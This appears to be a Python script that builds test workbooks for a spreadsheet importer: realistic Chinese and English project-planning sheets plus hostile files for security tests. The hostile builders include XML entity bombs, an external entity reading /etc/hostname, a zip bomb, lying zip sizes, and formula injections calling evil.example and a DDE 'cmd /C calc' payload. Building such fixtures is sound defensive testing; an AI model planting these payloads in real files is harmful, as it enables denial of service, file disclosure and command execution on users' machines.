"""Build the workbooks in tests/data the way users make them, and hostile ones for the security tests.

Run `python tests/data/make_workbooks.py` to rebuild the committed user workbooks; the hostile
files are built on demand by the tests (some are large when inflated and are never committed).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import struct
import sys
import zipfile
from pathlib import Path

from openpyxl import Workbook
from openpyxl.styles import Font, PatternFill

HERE = Path(__file__).resolve().parent


# --- workbooks people make ------------------------------------------------------------------
def system_with_title(path: Path) -> None:
    """量化指标体系 as pasted from the seed: title and note rows, header on row 4, merged stage cells."""
    wb = Workbook()
    ws = wb.active
    ws.title = "指标体系"
    ws["A1"] = "FlagOS 项目量化指标体系"
    ws["A2"] = "核心逻辑：新增「具体行动」与「数据来源」维度"
    ws.append([])
    ws.append(["阶 段", "模块 ", "建设内容", "具体行动", "量化验收指标", "评估方法", "数据来源（出处）"])
    rows = [
        ("第一阶段（0-6 个月）：基础建设期", "技术产品", "1. 核心组件开发\n2. 多芯片适配", "1. FlagGEMs 迭代 3 个版本\n2. 签订适配协议",
         "1. 适配 AI 芯片≥25 款\n2. 框架兼容通过率 100%", "第三方测试报告", "适配测试报告存档库"),
        (None, "生态建设", "1. 开源基金会成立", "1. 提交注册材料", "1. 基金会完成注册", "注册证书", "基金会行政档案"),
        ("第二阶段（6-18 个月）：生态规模化期", "技术产品", "1. 芯片适配扩容", "1. 新增海外小众芯片适配", "1. 适配 AI 芯片≥40 款", "测试报告", "存档库"),
        (None, "生态建设", "1. 社区激励强化", "1. 制定贡献积分规则", "1. 核心开发者≥200 人", "GitHub 统计", "GitHub API"),
    ]
    for row in rows:
        ws.append(list(row))
    ws.merge_cells("A5:A6")
    ws.merge_cells("A7:A8")
    wb.save(path)


def tasks_grouped(path: Path) -> None:
    """阶段任务计划表 as the seed lays it out: a heading and a table per module, in one sheet."""
    wb = Workbook()
    ws = wb.active
    ws.title = "第一阶段任务"
    header = ["任务ID", "建设内容", "具体行动", "起止时间", "责任角色", "依赖项", "里程碑", "风险应对"]
    ws.append(["## 第一阶段（0-6个月）：基础建设期"])
    ws.append(["3.1 技术产品模块"])
    ws.append(header)
    ws.append(["TP-01", "核心组件开发", "1. 迭代3版；\n2. 编译优化", "第1-8周", "算子组工程师×8、架构师×2", "无", "第8周完成内部测试", "启用备用方案"])
    ws.append(["TP-02", "多芯片适配", "1. 签订协议", "第4-22周", "适配工程师×12、测试工程师×6", "TP-01核心组件开发完成", "第22周通过测试", ""])
    ws.append(["TP-03", "框架兼容适配", "1. 接口对接", "W6-W12", "框架工程师×4", "TP-01核心组件开发完成", "", ""])
    ws.append(["TP-04", "性能优化验证", "1. 压测", "第20周-第24周", "性能工程师×5", "TP-02、TP-03完成", "", ""])
    ws.append([])
    ws.append(["3.2 生态建设模块"])
    ws.append(header)
    ws.append(["EC-01", "开源基金会成立", "1. 提交材料", "第1-6周", "生态负责人×1、法务专员×2", "无", "", ""])
    ws.append(["EC-04", "核心伙伴联动", "1. 招募企业", "第8-24周", "合作经理×6", "TP-02芯片适配完成30%", "", ""])
    wb.save(path)


def english_headers(path: Path) -> None:
    """An English task list: dates as text in three styles, priorities as words and emoji, 50% as text."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Tasks"
    ws.append(["Task ID", "Task", "Start", "End", "Depends on", "Priority", "Progress", "Comments"])
    ws.append(["DOC-01", "Restructure docs", "2025-01-27", "2025/02/10", "none", "High", "50%", "first"])
    ws.append(["DOC-02", "Write API guide", "2025.02.11", "2025-03-10", "DOC-01", "🟡", 0.25, ""])
    ws.append(["DOC-03", "Review", dt.date(2025, 3, 11), dt.date(2025, 3, 28), "DOC-02 SS+2d", "🟢低", "", ""])
    wb.save(path)


def returned_stats(path: Path) -> None:
    """A returned statistics template: one value '待定', an added column, a formula someone typed."""
    wb = Workbook()
    ws = wb.active
    ws.title = "数据统计模板"
    ws.append(["指标名称", "阶段目标", "本月实际值", "累计实际值", "达成率", "测试时间", "测试人员", "数据来源", "异常说明", "备注2"])
    ws.append(["AI芯片适配数量", "25款（0-6月）", "5款", "15款", "60%", "2025-03-28", "测试组", "适配测试报告库", "无，按计划推进", "x"])
    ws.append(["昇腾算子性能提升", "≥10%", "待定", "11.2%", "112%", "2025/03/28", "测试组", "FlagPerf平台", "新增3个优化算子", ""])
    wb.save(path)


def seed_stats(path: Path) -> None:
    """The seed's 4.1 statistics table, filled in correctly."""
    wb = Workbook()
    ws = wb.active
    ws.title = "4.1 数据统计"
    ws.append(["4.1 数据统计模板（技术产品模块示例）"])
    ws.append(["指标名称", "阶段目标", "本月实际值", "累计实际值", "达成率", "测试时间", "测试人员", "数据来源", "异常说明"])
    ws.append(["AI芯片适配数量", "25款（0-6月）", "5款", "15款", "60%", dt.date(2025, 3, 28), "测试组", "适配测试报告库", "无，按计划推进"])
    ws.append(["昇腾算子性能提升", "≥10%", "11.2%", 0.112, 1.12, "2025.03.28", "测试组", "FlagPerf平台", "效果超预期"])
    ws["E4"].number_format = "0%"
    ws["D4"].number_format = "0.0%"
    wb.save(path)


def master_many_sheets(path: Path) -> None:
    """A master file: division matrix, tasks, a hidden lists sheet, a notes sheet without tables."""
    wb = Workbook()
    ws = wb.active
    ws.title = "说明"
    ws["A1"] = "本文件为项目总表，请勿修改表头"
    div = wb.create_sheet("分工")
    div.append(["模块", "责任团队", "协作团队", "决策人", "核心执行角色", "协作频率"])
    div.append(["技术产品", "核心技术部（含算子组/编译组/适配组）", "质量测试部、运维部", "CTO/技术负责人", "组件开发工程师、适配工程师", "每周2次同步会"])
    div.append(["生态建设", "生态发展部", "核心技术部、品牌公关部", "生态负责人", "社区运营", "每周1次同步会"])
    tasks = wb.create_sheet("任务")
    tasks.append(["模块", "任务ID", "建设内容", "起止时间", "依赖项", "优先级"])
    tasks.append(["技术产品", "TP-01", "核心组件开发", "第1-8周", "无", "🔴高"])
    tasks.append(["技术产品", "TP-02", "多芯片适配", "第4-22周", "TP-01", "中"])
    tasks.append(["生态建设", "EC-01", "开源基金会成立", "第1-6周", "", "低"])
    lists = wb.create_sheet("lists")
    lists.append(["任务ID", "建设内容", "起止时间"])
    lists.append(["ZZ-99", "should never be imported", "第1-2周"])
    lists.sheet_state = "hidden"
    wb.save(path)


def junk_tail(path: Path, rows: int = 5000) -> None:
    """A short task table followed by thousands of formatted but empty rows."""
    wb = Workbook()
    ws = wb.active
    ws.title = "任务"
    ws.append(["任务ID", "建设内容", "起止时间"])
    ws.append(["TP-01", "核心组件开发", "第1-8周"])
    fill = PatternFill("solid", fgColor="FFFF00")
    for r in range(3, rows + 3):
        for c in range(1, 9):
            ws.cell(r, c).fill = fill
            ws.cell(r, c).font = Font(bold=True)
    wb.save(path)


USER_WORKBOOKS = {
    "system_title_merged.xlsx": system_with_title,
    "tasks_grouped_by_module.xlsx": tasks_grouped,
    "english_headers.xlsx": english_headers,
    "returned_stats_wrong_value.xlsx": returned_stats,
    "seed_stats.xlsx": seed_stats,
    "master_many_sheets.xlsx": master_many_sheets,
    "junk_tail.xlsx": junk_tail,
}


# --- hostile files (built on demand) -----------------------------------------------------------
def _base_xlsx() -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.title = "任务"
    ws.append(["任务ID", "建设内容", "起止时间"])
    ws.append(["TP-01", "核心组件开发", "第1-8周"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rewrite(base: bytes, replace: dict[str, bytes | None], add: dict[str, bytes] | None = None) -> bytes:
    """A copy of a zip with some members replaced (None removes them) and some added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in replace:
                if replace[info.filename] is not None:
                    dst.writestr(info.filename, replace[info.filename])
            else:
                dst.writestr(info.filename, src.read(info.filename))
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def _sheet_xml(body: str, head: str = "", extra: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8"?>{head}<worksheet xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main">{extra}<sheetData>{body}</sheetData></worksheet>').encode()


_ROW1 = '<row r="1"><c r="A1" t="inlineStr"><is><t>任务ID</t></is></c><c r="B1" t="inlineStr"><is><t>建设内容</t></is></c><c r="C1" t="inlineStr"><is><t>起止时间</t></is></c></row>'


def billion_laughs() -> bytes:
    ents = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    body = _ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>&a9;</t></is></c></row>'
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body, f"<!DOCTYPE lolz [{ents}]>")})


def external_entity(target: str = "file:///etc/hostname") -> bytes:
    body = _ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>TP-09</t></is></c><c r="B2" t="inlineStr"><is><t>&x;</t></is></c></row>'
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body, f'<!DOCTYPE x [<!ENTITY x SYSTEM "{target}">]>')})


def quadratic_blowup() -> bytes:
    big = "A" * 100_000
    body = _ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>' + "&big;" * 100_000 + "</t></is></c></row>"
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body, f'<!DOCTYPE x [<!ENTITY big "{big}">]>')})


def zip_bomb(inflated_mb: int = 1024) -> bytes:
    """A valid workbook whose sheet inflates to `inflated_mb` MB of empty rows (about 1 MB on disk)."""
    out = io.BytesIO()
    row = b'<row r="2"><c r="A2"><v>1</v></c></row>' * 1000
    with zipfile.ZipFile(io.BytesIO(_base_xlsx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                dst.writestr(info.filename, src.read(info.filename))
        with dst.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            for _ in range(inflated_mb * 2**20 // len(row)):
                fh.write(row)
            fh.write(b"</sheetData></worksheet>")
    return out.getvalue()


def lying_sizes(data: bytes, fake: int = 1000) -> bytes:
    """Patch every central-directory and local-header size to `fake` (declared sizes lie)."""
    buf = bytearray(data)
    for sig, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        for m in re.finditer(re.escape(sig), bytes(buf)):
            pos = m.start() + offset
            if struct.unpack_from("<I", buf, pos)[0] not in (0, 0xFFFFFFFF):
                struct.pack_into("<I", buf, pos, fake)
    return bytes(buf)


def many_entries(count: int = 100_000) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(_base_xlsx())) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        for i in range(count):
            dst.writestr(f"xl/media/x{i}.bin", b"")
    return out.getvalue()


def dimension_lie() -> bytes:
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(_ROW1, extra='<dimension ref="A1:XFD1048576"/>')})


def far_cell(ref: str = "XFD1048576") -> bytes:
    row = re.sub(r"\d+", "", ref) and re.search(r"\d+", ref).group()
    body = _ROW1 + f'<row r="{row}"><c r="{ref}"><v>1</v></c></row>'
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body)})


def many_merges(count: int = 50_000) -> bytes:
    merges = "".join(f'<mergeCell ref="A{2 * i + 3}:B{2 * i + 3}"/>' for i in range(count))
    xml = _sheet_xml(_ROW1).replace(b"</worksheet>", f'<mergeCells count="{count}">{merges}</mergeCells></worksheet>'.encode())
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": xml})


def formula_payloads() -> bytes:
    """Input cells holding formulas with cached values, plus an external-link part."""
    body = (_ROW1 + '<row r="2"><c r="A2" t="inlineStr"><is><t>TP-01</t></is></c>'
            '<c r="B2" t="str"><f>HYPERLINK("http://evil.example/x","click")</f><v>click</v></c>'
            '<c r="C2" t="str"><f>WEBSERVICE("http://evil.example/"&amp;A1)</f><v>第1-8周</v></c></row>'
            '<row r="3"><c r="A3" t="inlineStr"><is><t>TP-02</t></is></c>'
            '<c r="B3" t="str"><f>cmd|\' /C calc\'!A0</f><v>dde</v></c>'
            '<c r="C3" t="inlineStr"><is><t>第2-3周</t></is></c></row>')
    return rewrite(_base_xlsx(), {"xl/worksheets/sheet1.xml": _sheet_xml(body)},
                   add={"xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'})


def compound_file(streams: dict[str, bytes], *, directory_last: bool = False, padding: int = 0) -> bytes:
    """An OLE compound file (MS-CFB version 3, 512-byte sectors) holding `streams` in its root.

    Streams are padded to 4,096 bytes so they live in ordinary sectors. With `directory_last`
    the directory sector comes after the streams and `padding` more bytes of sectors, as
    some writers place it (the file is still valid: the header points at it).
    """
    size = 512
    end, free, fat_mark = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    data = [d.ljust(max(4096, -(-len(d) // size) * size), b"\x00") for d in streams.values()]
    pad_sectors = -(-padding // size)
    sectors: list[bytes] = []
    fat: list[int] = []

    def chain(blob: bytes) -> int:
        first = len(sectors) + 1  # sector 0 is the FAT
        count = len(blob) // size
        for i in range(count):
            sectors.append(blob[i * size:(i + 1) * size])
            fat.append(first + i + 1 if i + 1 < count else end)
        return first

    def directory() -> bytes:
        entries = []
        names = ["Root Entry", *streams]
        for i, name in enumerate(names):
            raw = name.encode("utf-16-le") + b"\x00\x00"
            entry = bytearray(128)
            entry[:len(raw)] = raw
            struct.pack_into("<H", entry, 0x40, len(raw))
            entry[0x42] = 5 if i == 0 else 2
            entry[0x43] = 1
            left, right, child = free, (i + 1 if 0 < i < len(names) - 1 else free), (1 if i == 0 and len(names) > 1 else free)
            struct.pack_into("<III", entry, 0x44, left, right, child)
            start = end if i == 0 else starts[i - 1]
            length = 0 if i == 0 else len(list(streams.values())[i - 1])
            struct.pack_into("<IQ", entry, 0x74, start, length)
            entries.append(bytes(entry))
        blob = b"".join(entries)
        return blob.ljust(-(-len(blob) // size) * size, b"\x00")

    starts: list[int] = []
    dir_first = None
    if not directory_last:
        dir_first = len(sectors) + 1
        placeholder = len(streams) + 1
        for _ in range(-(-placeholder * 128 // size)):
            sectors.append(b"")
            fat.append(end)
    for blob in data:
        starts.append(chain(blob))
    if directory_last:
        chain(b"\x00" * pad_sectors * size) if pad_sectors else None
        dir_first = chain(directory())
    else:
        blob = directory()
        for i in range(len(blob) // size):
            sectors[dir_first - 1 + i] = blob[i * size:(i + 1) * size]
    entries_per_fat = size // 4
    assert len(fat) + 1 <= entries_per_fat * 109
    fat_count = -(-(len(fat) + 1) // entries_per_fat)
    # FAT sectors come first: shift everything by the extra FAT sectors beyond the first.
    assert fat_count == 1 or True
    table = [fat_mark] * fat_count + [x + fat_count - 1 if x < end else x for x in fat]
    table += [free] * (fat_count * entries_per_fat - len(table))
    shift = fat_count - 1
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 0x2C, fat_count)
    struct.pack_into("<I", header, 0x30, dir_first + shift)
    struct.pack_into("<I", header, 0x38, 4096)
    struct.pack_into("<IIII", header, 0x3C, end, 0, end, 0)
    difat = list(range(fat_count)) + [free] * (109 - fat_count)
    struct.pack_into("<109I", header, 0x4C, *difat)
    fat_bytes = struct.pack(f"<{len(table)}I", *table)
    return bytes(header) + fat_bytes + b"".join(s.ljust(size, b"\x00") for s in sectors)


def encrypted_workbook(*, directory_last: bool = False) -> bytes:
    """What Excel writes for a password-protected .xlsx: a compound file with EncryptionInfo and
    EncryptedPackage streams (their content here is filler)."""
    return compound_file({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00" + b"\x00" * 200,
                          "EncryptedPackage": b"\x00" * 9000}, directory_last=directory_last,
                         padding=5 * 2**20 if directory_last else 0)


def old_xls() -> bytes:
    return compound_file({"Workbook": b"\x09\x08\x10\x00" + b"\x00" * 5000})


def wrong_containers() -> dict[str, bytes]:
    base = _base_xlsx()
    return {
        "xls": old_xls(),
        "encrypted": encrypted_workbook(),
        "encrypted_late_directory": encrypted_workbook(directory_last=True),
        "xlsm": rewrite(base, {}, add={"xl/vbaProject.bin": b"\x00" * 16}),
        "xlsb": rewrite(base, {}, add={"xl/workbook.bin": b"\x00" * 16}),
        "csv": "任务ID,建设内容,起止时间\nTP-01,核心组件开发,第1-8周\n".encode(),
        "empty": b"",
        "truncated": base[: len(base) // 2],
        "no_content_types": rewrite(base, {"[Content_Types].xml": None}),
    }


# --- hostile syntax (attribute spelling, part-name case, merged areas) -----------------------------
def sheet_with(body: str, tail: str = "", head: str = "") -> bytes:
    """A sheet part: the usual header row, `body` rows, then `tail` after sheetData."""
    return _sheet_xml(_ROW1 + body, head=head).replace(b"</worksheet>", tail.encode() + b"</worksheet>")


def with_sheet(sheet: bytes, *, part: str = "xl/worksheets/sheet1.xml", target: str | None = None,
               strings: bytes | None = None) -> bytes:
    """The base workbook with its sheet replaced; `part` renames the sheet's zip entry and
    `target` the relationship's target (both may differ in case, as a hostile file makes them)."""
    base = _base_xlsx()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            name = info.filename
            if name == "xl/worksheets/sheet1.xml":
                name, data = part, sheet
            elif name == "xl/_rels/workbook.xml.rels" and target is not None:
                data = data.replace(b"/xl/worksheets/sheet1.xml", target.encode())
            dst.writestr(name, data)
        if strings is not None:
            dst.writestr("xl/sharedStrings.xml", strings)
    return out.getvalue()


FAR_CELL_SPELLINGS = {  # XFD1048576 written as a parser reads it but a pattern does not
    "single_quotes": "<row><c r='XFD1048576'><v>1</v></c></row>",
    "spaces_around_equals": '<row><c r = "XFD1048576"><v>1</v></c></row>',
    "lower_case": '<row><c r="xfd1048576"><v>1</v></c></row>',
    "leading_zeros": '<row><c r="XFD0001048576"><v>1</v></c></row>',
    "after_a_tab": '<row><c\tr="XFD1048576"><v>1</v></c></row>',
    "after_a_newline": '<row><c s="0"\n r="XFD1048576"><v>1</v></c></row>',
    "prefixed_element": '<row><x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                        'r="XFD1048576"><x:v>1</x:v></x:c></row>',
}


def far_cell_spelled(spelling: str) -> bytes:
    return with_sheet(sheet_with(FAR_CELL_SPELLINGS[spelling]))


def far_cell_behind_upper_case_name() -> bytes:
    """The relationship says SHEET1.XML, the entry is sheet1.xml: the reader finds it anyway."""
    return with_sheet(sheet_with('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
                      target="/xl/worksheets/SHEET1.XML")


def far_cell_in_upper_case_entry() -> bytes:
    return with_sheet(sheet_with('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
                      part="xl/worksheets/SHEET1.XML")


def repeated_big_merges(count: int = 10_000, ref: str = "A3:ALL102") -> bytes:
    """`count` merges of 100 x 1,000 cells (2.6 KB once compressed)."""
    merges = f'<mergeCell ref="{ref}"/>' * count
    return with_sheet(sheet_with("", tail=f'<mergeCells count="{count}">{merges}</mergeCells>'))


def one_huge_merge(ref: str = "A3:ALL100000") -> bytes:
    return with_sheet(sheet_with("", tail=f'<mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>'))


def sparse_far_cell(ref: str = "ALL100000") -> bytes:
    return with_sheet(sheet_with(f'<row r="{ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{ref}"><v>1</v></c></row>'))


def lying_string_count(declared: str = "100000000000") -> bytes:
    strings = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
               f'2006/main" count="1" uniqueCount="{declared}"><si><t>x</t></si></sst>').encode()
    return with_sheet(sheet_with('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'), strings=strings)


def deep_nesting(depth: int = 100_000) -> bytes:
    return with_sheet(sheet_with("", tail="<extLst>" + "<a>" * depth + "</a>" * depth + "</extLst>"))


def broken_xml_in_a_cell() -> bytes:
    return with_sheet(sheet_with('<row r="2"><c r="A2" t="inlineStr"><is><t>TP-01</t></is></c>'
                                 '<c r="B2" t="inlineStr"><is><t>a < b</t></is></c></row>'))


def huge_string(mb: int = 50) -> bytes:
    """One cell holding `mb` MB of varied text (it compresses like real text, not like a bomb)."""
    import random

    alphabet = "长期规划阶段任务模块指标验收风险应对生态技术产品"
    text = "".join(random.Random(mb).choices(alphabet, k=mb * 2**20 // 3))
    return with_sheet(sheet_with(f'<row r="2"><c r="A2" t="inlineStr"><is><t>TP-09</t></is></c>'
                                 f'<c r="B2" t="inlineStr"><is><t>{text}</t></is></c></row>'))


def cells_without_references(rows: int = 3) -> bytes:
    """Rows and cells with no r (allowed; some generators omit them): placed by counting."""
    body = "".join(f'<row><c t="inlineStr"><is><t>TP-{i:02d}</t></is></c><c t="inlineStr"><is><t>任务{i}</t></is></c>'
                   f'<c t="inlineStr"><is><t>第{i}-{i + 2}周</t></is></c></row>' for i in range(1, rows + 1))
    return with_sheet(_sheet_xml('<row><c t="inlineStr"><is><t>任务ID</t></is></c><c t="inlineStr"><is><t>建设内容'
                                 '</t></is></c><c t="inlineStr"><is><t>起止时间</t></is></c></row>' + body))


def main(folder: Path = HERE) -> None:
    for name, build in USER_WORKBOOKS.items():
        build(folder / name)
        print(f"wrote {folder / name}")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
